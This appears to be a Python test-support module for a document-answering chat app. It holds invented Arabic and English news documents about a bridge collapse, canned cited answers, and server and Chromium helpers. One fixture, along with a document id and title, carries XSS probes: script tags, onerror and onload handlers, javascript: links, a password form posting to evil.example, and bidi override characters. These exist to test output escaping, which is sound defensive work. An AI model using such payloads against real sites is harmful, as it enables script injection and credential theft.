"""A pipeline of a few invented documents and prepared answers, and a browser, for the tests of the chat."""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import TYPE_CHECKING

from rag.errors import DocumentError, QuestionError
from rag.filters import Filters
from rag.schema import Answer, AnswerGroup, Citation, Document, Relation

if TYPE_CHECKING:
    from playwright.sync_api import Browser

CHROMIUM_FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

_BRIDGE = """---
title: انهيار جسر الوادي
date: 2023-03-14
---
انهيار جسر الوادي

وردان، 14 آذار 2023

انهار فجر اليوم جسر الوادي في مدينة وردان بعد أسبوع من الأمطار الغزيرة. \
وقالت رئيسة البلدية لمى الحداد إن اثني عشر عاملاً أُصيبوا بجروح طفيفة، وإنّ أحداً لم يُقتل.\
وأضافت أن البلدية أغلقت الطريق في الساعة 5:40 صباحاً.

وذكر المهندس سامر بركات أن أساس الدعامة الثالثة جرفته المياه، وأن إعادة البناء ستكلّف ٤٫٢ مليون دينار.
"""
_HOSPITAL = """مستشفى وردان يستقبل المصابين
وردان، 15 آذار 2023

أعلن مستشفى وردان العام أنه استقبل 15 مصاباً في حادثة الجسر، خرج منهم تسعة في مساء اليوم نفسه.

وقال الطبيب ناصر العلي: «حالة المصابين مستقرة، ولا حاجة إلى نقل أحد منهم إلى العاصمة».

وأكد المستشفى أن البلدية أغلقت الطريق في الساعة 5:40 صباحاً قبل وصول سيارات الإسعاف.
"""
_REPORT = """# Engineers' report on the Wardan bridge

20 March 2023

The inquiry found that floodwater had washed out the footing of the third pier. A survey made in 2019 had \
asked for scour protection (حماية من النحر), but no money was set aside.

The company Nahr Works will rebuild the bridge, and opens it again in September 2024.
"""
_HOSTILE = """<script>window.__hacked = "script"</script><img src=x onerror="window.__hacked = 'img'">
"><svg onload="window.__hacked = 'svg'"> <a href="javascript:window.__hacked='link'">press</a>
[press](javascript:window.__hacked='markdown') ![x](https://evil.example/pixel.png) {{constructor}} ${7*7} \
`code`
<form action="https://evil.example"><input name="password"></form><style>body{display:none}</style>
The safe is opened by the code \u202e4321\u202c, said the guard.</article></div></body>
"""

_LEVELS = "سجل منسوب الوادي\n\n" + "\n\n".join(
    f"في عام {year} بلغ أعلى منسوب للمياه عند محطة وردان {90 + (year * 37) % 160} سنتيمتراً وقيس في نيسان."
    for year in range(1950, 2021)
)

DOCUMENTS = [
    Document(
        id="أخبار/001 الجسر.md",
        text=_BRIDGE,
        title="انهيار جسر الوادي",
        lang="ar",
        date=dt.date(2023, 3, 14),
        source="صحيفة وردان",
        body_start=_BRIDGE.index("انهيار", _BRIDGE.index("---", 3)),
    ),
    Document(
        id="أخبار/002.txt",
        text=_HOSPITAL,
        title="مستشفى وردان يستقبل المصابين",
        lang="ar",
        date=dt.date(2023, 3, 15),
        source="وكالة الوادي",
    ),
    Document(
        id="report-2023.md",
        text=_REPORT,
        title="Engineers' report on the Wardan bridge",
        lang="en",
        date=dt.date(2023, 3, 20),
    ),
    Document(id="levels.txt", text=_LEVELS, title="سجل منسوب الوادي", lang="ar"),
    Document(
        id='a"><img src=x onerror=window.__hacked=1>\u202etxt.md',
        text=_HOSTILE,
        title='"><script>window.__hacked="title"</script>\u202e<b>عنوان',
        lang="en",
    ),
]


def cite(document_id: str, quote: str, nth: int = 1, score: float = 0.9) -> Citation:
    """Return a citation of the `nth` place where a document says `quote`, with the sentence around it."""
    document = next(item for item in DOCUMENTS if item.id == document_id)
    start = document.body_start - 1
    for _ in range(nth):
        start = document.text.index(quote, start + 1)
    end = start + len(quote)
    before = [document.text.rfind(stop, document.body_start, start) for stop in ("\n", ". ", ".و")]
    after = [place for stop in (".\n", ". ", ".و", "\n") if (place := document.text.find(stop, end)) >= 0]
    context_start = max(max(before) + 1, document.body_start)
    while document.text[context_start].isspace():
        context_start += 1
    context_end = min(after) + 1 if after else len(document.text)
    context_end = max(end, context_start + len(document.text[context_start:context_end].rstrip()))
    return Citation(
        document=document.id,
        title=document.title,
        date=document.date,
        start=start,
        end=end,
        quote=quote,
        context_start=context_start,
        context_end=context_end,
        context=document.text[context_start:context_end],
        score=score,
        sha256=document.sha256,
    )


BRIDGE, HOSPITAL, REPORT, LEVELS, HOSTILE = (item.id for item in DOCUMENTS)

CLOSED = "متى أُغلق الطريق؟"
INJURED = "كم عدد المصابين؟"
CAUSE = "Why did the bridge fall?"
MIXED = "من سيعيد بناء الجسر، Nahr Works؟"
ABSENT = "من فاز بكأس العالم؟"
LEVEL = "كم بلغ منسوب المياه عام 2019؟"
GUARD = "What is the code?"
EXAMPLES = [INJURED, CLOSED, CAUSE, ABSENT]


def _answers() -> dict[str, tuple[Relation | None, list[tuple[float, list[Citation]]]]]:
    return {
        CLOSED: (
            "agree",
            [
                (0.91, [cite(BRIDGE, "الساعة 5:40 صباحاً"), cite(HOSPITAL, "الساعة 5:40 صباحاً")]),
                (0.4, [cite(BRIDGE, "فجر اليوم", score=0.5)]),
            ],
        ),
        INJURED: (
            "conflict",
            [(0.83, [cite(BRIDGE, "اثني عشر عاملاً")]), (0.71, [cite(HOSPITAL, "15 مصاباً")])],
        ),
        CAUSE: (
            "compatible",
            [
                (0.66, [cite(REPORT, "floodwater had washed out the footing of the third pier")]),
                (0.45, [cite(BRIDGE, "أساس الدعامة الثالثة جرفته المياه")]),
            ],
        ),
        MIXED: ("single", [(0.78, [cite(REPORT, "Nahr Works")])]),
        LEVEL: ("single", [(0.8, [cite(LEVELS, f"{90 + (2019 * 37) % 160} سنتيمتراً")])]),
        GUARD: ("single", [(0.6, [cite(HOSTILE, "4321\u202c, said the guard")])]),
    }


class FakePipeline:
    """Prepared answers over `DOCUMENTS`; any other question is one that they do not answer."""

    folder = Path("invented")

    def answer(self, question: str, k: int = 5, filters: Filters | None = None) -> Answer:
        """Return the prepared answer, or an abstention with two nearest passages.

        Of the groups, those with a citation of the right documents and languages.
        """
        if not question.strip():
            raise QuestionError("the question is empty; write one")
        relation, groups = _answers().get(question.strip(), (None, []))
        allowed = self._allowed(filters or Filters())
        groups = [(score, [c for c in cited if c.document in allowed]) for score, cited in groups]
        groups = [(score, cited) for score, cited in groups if cited]
        if not groups:
            nearest = (
                cite(HOSPITAL, "حالة المصابين مستقرة", score=0.2),
                cite(REPORT, "A survey made in 2019", score=0.1),
            )
            return Answer(question=question, confidence=0.12, nearest=nearest, took_ms=3)
        made = tuple(AnswerGroup(tuple(citations), confidence) for confidence, citations in groups)
        return Answer(question, made[0].confidence, made[:k], relation, took_ms=3)

    def _allowed(self, filters: Filters) -> set[str]:
        for name in filters.documents:
            self.document(name)
        return {
            item.id
            for item in DOCUMENTS
            if (not filters.documents or item.id in filters.documents)
            and (not filters.languages or item.lang in filters.languages)
            and (not filters.since or (item.date is not None and item.date >= filters.since))
            and (not filters.until or (item.date is not None and item.date <= filters.until))
        }

    def documents(self) -> list[Document]:
        """Return the invented documents."""
        return list(DOCUMENTS)

    def document(self, document_id: str) -> Document:
        """Return one of them."""
        for item in DOCUMENTS:
            if item.id == document_id:
                return item
        raise DocumentError(document_id, "there is no such document")


@contextmanager
def served(port: int = 0) -> Iterator[tuple[str, subprocess.Popen[str]]]:
    """Serve the invented documents from a process of its own; give its address and the process.

    Of its own because Gradio leaves event loops and sockets behind, and here warnings are errors.
    """
    code = (
        "from ui_support import EXAMPLES, FakePipeline; from ui.app import serve; "
        f"serve(FakePipeline(), port={port}, examples=EXAMPLES)"
    )
    with running([sys.executable, "-uc", code]) as opened:
        yield opened


@contextmanager
def running(command: list[str], **environment: str) -> Iterator[tuple[str, subprocess.Popen[str]]]:
    """Run a command that serves the chat; give the address that it prints, and the process."""
    root = Path(__file__).resolve().parent.parent
    path = os.pathsep.join([str(root), str(root / "tests")])
    process = subprocess.Popen(
        command,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env={**os.environ, "PYTHONPATH": path, "PYTHONIOENCODING": "utf-8", **environment},
    )
    with process:
        try:
            assert process.stdout is not None
            assert process.stderr is not None
            first = process.stdout.readline()
            found = re.search(r"http://127\.0\.0\.1:\d+", first)
            if found is None:
                process.kill()
                raise AssertionError(f"the chat did not open: {first}{process.stderr.read()}")
            yield found.group(), process
        finally:
            process.kill()


@contextmanager
def chromium() -> Iterator[Browser]:
    """Open the Chromium that the system has; skip the test where it has none."""
    import pytest
    from playwright.sync_api import sync_playwright

    path = shutil.which("chromium") or shutil.which("chromium-browser")
    if path is None:
        pytest.skip("chromium is not installed")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, args=CHROMIUM_FLAGS)
        yield browser
        browser.close()


def free_port() -> int:
    """Return a port that nothing listens on."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])
